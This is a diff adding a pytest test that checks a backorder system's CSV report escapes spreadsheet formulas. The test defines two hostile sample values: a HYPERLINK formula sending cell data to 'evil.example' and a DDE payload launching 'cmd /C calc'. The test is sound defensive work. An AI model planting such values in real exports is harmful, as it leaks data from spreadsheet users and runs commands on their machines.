@@ -9,6 +9,7 @@ import io
 import json
 import re
 from datetime import UTC, datetime
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -17,12 +18,16 @@ from backorder.config import Settings
 from backorder.domain.errors import InvalidRequest
 from backorder.report.render import render
 from backorder.services.context import Backorder
+from backorder.services.intake import place_order
 from backorder.services.notifications import failed
+from backorder.services.orders import cancel_order
 from backorder.services.planning import plan
+from backorder.services.products import add_product
 from backorder.services.report import parse_week, report_due, run_weekly, weekly_report
 from backorder.services.review import run_review
 from backorder.services.sending import send_due
 from tests.conftest import Clock
+from tests.factories import order, product
 from tests.integration.test_kpis import make_january
 from tests.mail import Inbox
 
@@ -112,6 +117,35 @@ def test_every_format(january: Backorder) -> None:
     assert document.startswith(b"%PDF-") and document.rstrip().endswith(b"%%EOF")
     assert len(re.findall(rb"/Type /Page\b", document)) >= 2
     assert render(report, "pdf") == document  # the same report, the same bytes
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula(january: Backorder, clock: Clock) -> None:
+    """Cells beginning with =, +, -, @, a tab or a carriage return are quoted the OWASP way
+    (a leading '), whatever they came from (here a SKU, and a task's fields); numbers, a
+    negative one too, stay numbers."""
+    add_product(january, product(FORMULA, unit_price=Decimal(5)))
+    place_order(january, order("CSV1", (FORMULA, 2), placed_at=clock.current))
+    place_order(january, order("CSV2", ("B", 1), placed_at=clock.current))
+    cancel_order(january, "web:CSV2", reason=REASON)
+    clock.advance(days=7)
+    report = weekly_report(january, "2026-W04")
+    report["tasks"].append(
+        {"id": 99, "role": "-2+3", "sku": "\tx", "due_on": "+1+1", "title": "\r=1+1\n=2"}
+    )
+    report["days"][0]["new_lines"] = -3  # a number: data, even below zero
+    report["days"][0]["value_at_risk"] = "-12.50"  # a number written as text: data too
+    rows = list(csv.reader(io.StringIO(render(report, "csv").decode())))
+    cells = [cell for row in rows for cell in row]
+    assert f"'{FORMULA}:USD" in cells  # the SKU, in the top SKUs
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert {"'-2+3", "'+1+1", "'\tx", "'\r=1+1\n=2"} <= set(cells)  # one cell, not two rows
+    assert f"reasons_{REASON}" in cells  # the cancel reason follows its field's name
+    assert ["day", report["days"][0]["day"], "new_lines", "-3"] in rows
+    assert ["day", report["days"][0]["day"], "value_at_risk", "-12.50"] in rows
 
 
 @pytest.mark.parametrize("week", ["2026-47", "2026-W54", "W03"])
